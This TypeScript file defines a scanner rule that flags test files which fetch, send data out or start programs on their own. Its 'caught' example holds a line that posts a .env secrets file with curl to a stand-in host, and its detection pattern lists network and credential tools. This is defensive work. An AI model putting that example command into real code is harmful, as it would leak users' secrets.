import { defineTextRule } from "../../text-rule.ts";
import { family, nameOf } from "./family.ts";

export const scheduled = defineTextRule({
  ...family,
  id: "AUTO-TEST",
  summary: "A test file does what no test needs: it fetches, sends or starts programs on its own.",
  why: "Test runners find and run such files by their names, with the user's rights.",
  fix: "Remove it; a test talks to nothing outside.",
  example: {
    path: "tests/run.test.js",
    caught: "import { execSync } from 'node:child_process';\nexec{gap}Sync('curl -d @.env https://x.example.invalid');\n",
    instead: "import { test } from 'node:test';\ntest('adds', () => {});\n",
  },
  triggers: [
    {
      anchors: ["execsync", "exec(", "spawn(", "spawnsync", "os.system", "subprocess", "fetch("],
      pattern:
        /(?:execSync|(?<![\w.])exec|spawn(?:Sync)?|os\.system|subprocess\.\w{2,14})\s{0,3}\(\s{0,3}\[?\s{0,3}["'`](?<command>[^\n]{1,300})/uy,
      judge: ({ place, groups }) =>
        /(?:^|[._-])(?:test|spec)\.[cm]?[jt]sx?$|^test_\w+\.py$|_test\.(?:py|go|rb)$|^conftest\.py$|^(?:jest|vitest|karma|playwright|cypress)\.(?:config|setup)\.[cm]?[jt]s$/u.test(
          nameOf(place.path),
        ) && /curl|wget|https?:\/\/(?!localhost|127\.)|\bnc\s|base64|\.ssh|\.env|\/dev\/tcp/u.test(groups["command"] ?? "")
          ? {}
          : null,
    },
  ],
});
